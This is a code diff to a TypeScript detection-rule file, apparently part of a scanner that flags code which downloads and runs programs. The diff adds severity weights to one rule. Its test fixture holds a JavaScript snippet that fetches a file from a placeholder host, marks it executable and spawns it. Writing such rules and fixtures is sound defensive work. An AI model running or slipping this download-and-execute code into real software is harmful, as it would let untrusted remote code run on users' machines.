@@ -25,7 +25,7 @@ import {
   word,
 } from '../../engine/pattern.ts';
 import { byHost, interpreters } from './shared.ts';
-import { fenced, inFile } from '../../engine/example.ts';
+import { fenced, inFile, weighed } from '../../engine/example.ts';
 import { byReleaseHost, digestChecked } from './rc-03-phrases.ts';
 import type { Row } from '../../engine/rule.ts';
 
@@ -99,6 +99,7 @@ export const downloadingPrograms: readonly Row[] = [
     spares: [inFile('scripts/a.sh', 'wget -q https://data.acme.example/rows -O rows', 'sort rows')],
   }),
   row('download and run, in a program', {
+    alone: 'medium',
     in: ['script', 'fence'],
     within: 'block',
     match: pattern(
@@ -144,10 +145,13 @@ export const downloadingPrograms: readonly Row[] = [
     unless: [pattern(word(oneOf('hashlib', 'createHash', 'sha256', 'checksum', 'signature')))],
     weigh: byReleaseHost,
     catches: [
-      inFile(
-        'scripts/a.js',
-        'https.get("https://b.invalid/x", (r) => r.pipe(fs.createWriteStream("/tmp/x", { mode: 0o755 })));',
-        'spawn("/tmp/x");',
+      weighed(
+        'high',
+        inFile(
+          'scripts/a.js',
+          'https.get("https://b.invalid/x", (r) => r.pipe(fs.createWriteStream("/tmp/x", { mode: 0o755 })));',
+          'spawn("/tmp/x");',
+        ),
       ),
     ],
     spares: [
